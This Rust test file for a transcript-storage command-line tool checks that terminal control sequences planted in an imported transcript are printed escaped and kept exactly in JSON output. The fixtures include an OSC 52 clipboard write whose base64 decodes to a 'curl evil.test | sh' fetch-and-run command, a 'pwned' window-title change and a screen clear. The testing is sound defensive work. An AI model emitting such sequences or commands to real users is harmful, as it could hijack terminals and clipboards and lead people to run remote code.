//! Terminal safety as a process: a transcript that carries terminal control sequences (an OSC 52
//! clipboard write, a window title change, a screen clear, a one-byte CSI, a bidi override) prints
//! them escaped in every text output, and `--json` keeps the stored text exactly.
#![allow(clippy::unwrap_used, reason = "a test fails loudly on the first unexpected error")]

mod support;

use support::mnemo;

/// `ESC ] 52 ; c ; <base64> BEL`: writes the terminal's clipboard.
const CLIPBOARD: &str = "\u{1b}]52;c;Y3VybCBldmlsLnRlc3QgfCBzaA==\u{7}";
/// `ESC ] 0 ; <title> ESC \`: sets the window title.
const TITLE: &str = "\u{1b}]0;pwned\u{1b}\\";
/// `ESC [ 2 J ESC [ H`: clears the screen.
const CLEAR: &str = "\u{1b}[2J\u{1b}[H";
/// The 8-bit CSI (U+009B) and a right-to-left override.
const EIGHT_BIT_AND_BIDI: &str = "\u{9b}31m \u{202e}";

fn transcript() -> String {
    let lines = [
        serde_json::json!({"kind":"session","session":"s1","workspace":"w1","title":format!("deploy {TITLE}")}),
        serde_json::json!({"session":"s1","turn":"t1","role":"user","parts":[{"type":"text",
            "text":format!("Remember that I deploy with zebrafish {CLIPBOARD} on fridays.")}]}),
        serde_json::json!({"session":"s1","turn":"t1","role":"model","parts":[
            {"type":"text","text":format!("zebrafish deploy noted {TITLE} {EIGHT_BIT_AND_BIDI}")},
            {"type":"tool_call","id":"c1","name":"shell","args":{"cmd":format!("echo zebrafish {CLEAR}")}}]}),
        serde_json::json!({"session":"s1","turn":"t1","role":"tool","parts":[{"type":"tool_result","id":"c1",
            "name":"shell","result":format!("zebrafish {CLEAR} done"),"is_error":false}]}),
        serde_json::json!({"session":"s1","turn":"t1","kind":"turn_end","status":"completed"}),
    ];
    lines.iter().map(|line| format!("{line}\n")).collect()
}

/// The raw bytes of a control sequence's introducers, in UTF-8.
fn raw_controls(bytes: &[u8]) -> Vec<&'static str> {
    let text = String::from_utf8_lossy(bytes);
    let mut found = Vec::new();
    for (name, c) in [("ESC", '\u{1b}'), ("BEL", '\u{7}'), ("CSI", '\u{9b}'), ("RLO", '\u{202e}')] {
        if text.contains(c) {
            found.push(name);
        }
    }
    found
}

#[test]
fn text_output_escapes_terminal_control_sequences_and_json_keeps_them() {
    let dir = tempfile::tempdir().unwrap();
    let store = dir.path().join("store");
    let file = dir.path().join("hostile.jsonl");
    std::fs::write(&file, transcript()).unwrap();
    let imported = mnemo(&store, &["import", file.to_str().unwrap()]);
    assert!(imported.status.success(), "{}", String::from_utf8_lossy(&imported.stderr));
    let remembered = mnemo(&store, &["memory", "remember", "s1"]);
    assert!(remembered.status.success(), "{}", String::from_utf8_lossy(&remembered.stderr));

    let commands: [&[&str]; 11] = [
        &["sessions"],
        &["show", "s1"],
        &["search", "zebrafish"],
        &["read", "s1", "--turn", "t1"],
        &["context", "s1"],
        &["log"],
        &["memory", "search", "zebrafish"],
        &["recall", "s1", "--query", "zebrafish deploy"],
        &["recall", "s1"],
        &["compact", "s1", "--keep-turns", "0"],
        &["export"],
    ];
    let mut shown_escaped = Vec::new();
    for args in commands {
        let text = mnemo(&store, args);
        assert!(
            text.status.code().is_some_and(|code| code <= 1),
            "{args:?}: {}",
            String::from_utf8_lossy(&text.stderr)
        );
        if args == ["export"] {
            // The export is a transcript for import, not text for reading: JSON Lines, whose
            // strings escape C0 controls (C1 and bidi characters are valid JSON text and stay).
            assert!(!raw_controls(&text.stdout).contains(&"ESC"), "export writes JSON-escaped text");
            continue;
        }
        assert_eq!(
            raw_controls(&text.stdout),
            Vec::<&str>::new(),
            "{args:?} stdout:\n{}",
            String::from_utf8_lossy(&text.stdout)
        );
        assert_eq!(raw_controls(&text.stderr), Vec::<&str>::new(), "{args:?} stderr");
        let stdout = String::from_utf8(text.stdout).unwrap();
        if stdout.contains("\\x1b]52;c;") || stdout.contains("\\x1b]0;pwned") || stdout.contains("\\x1b[2J") {
            shown_escaped.push(args[0]);
        }
    }
    // The commands that print transcript text show the sequences escaped, not dropped.
    assert_eq!(shown_escaped, ["sessions", "show", "search", "read", "context"]);

    // `show` and `context` name every hostile piece, escaped.
    let show = String::from_utf8(mnemo(&store, &["show", "s1"]).stdout).unwrap();
    for escaped in
        ["\\x1b]52;c;Y3VybCBldmlsLnRlc3QgfCBzaA==\\x07", "\\x1b]0;pwned\\x1b\\", "\\u{9b}31m \\u{202e}"]
    {
        assert!(show.contains(escaped), "{escaped} in:\n{show}");
    }
    let context = String::from_utf8(mnemo(&store, &["context", "s1"]).stdout).unwrap();
    assert!(context.contains("zebrafish \\x1b[2J\\x1b[H done"), "{context}");

    // `--json` is the stored text, byte for byte: the control characters are JSON escapes.
    let json = mnemo(&store, &["show", "s1", "--json"]);
    assert!(json.status.success());
    assert!(!raw_controls(&json.stdout).contains(&"ESC"), "JSON escapes C0 control characters itself");
    let json: serde_json::Value = serde_json::from_slice(&json.stdout).unwrap();
    assert_eq!(json["header"]["title"], format!("deploy {TITLE}"));
    let messages = json["messages"].as_array().unwrap();
    let user = messages.iter().find(|m| m["kind"] == "user").unwrap();
    assert_eq!(user["text"], format!("Remember that I deploy with zebrafish {CLIPBOARD} on fridays."));
    let sessions: serde_json::Value =
        serde_json::from_slice(&mnemo(&store, &["sessions", "--json"]).stdout).unwrap();
    assert_eq!(sessions[0]["title"], format!("deploy {TITLE}"));
}

#[test]
fn error_messages_escape_control_characters() {
    let dir = tempfile::tempdir().unwrap();
    let store = dir.path().join("store");
    let file = dir.path().join("bad.jsonl");
    // An unknown key is an input error naming the key: the key carries a screen clear.
    std::fs::write(
        &file,
        format!(
            "{}\n",
            serde_json::json!({"session":"s1","turn":"t1","role":"user",
        format!("x{CLEAR}"): 1, "parts":[]})
        ),
    )
    .unwrap();
    let refused = mnemo(&store, &["import", file.to_str().unwrap()]);
    assert_eq!(refused.status.code(), Some(2), "{}", String::from_utf8_lossy(&refused.stderr));
    assert!(raw_controls(&refused.stderr).is_empty(), "{:?}", String::from_utf8_lossy(&refused.stderr));
    let shown = mnemo(&store, &["show", &format!("s{CLEAR}")]);
    assert_eq!(shown.status.code(), Some(2));
    assert!(raw_controls(&shown.stderr).is_empty(), "{:?}", String::from_utf8_lossy(&shown.stderr));
}
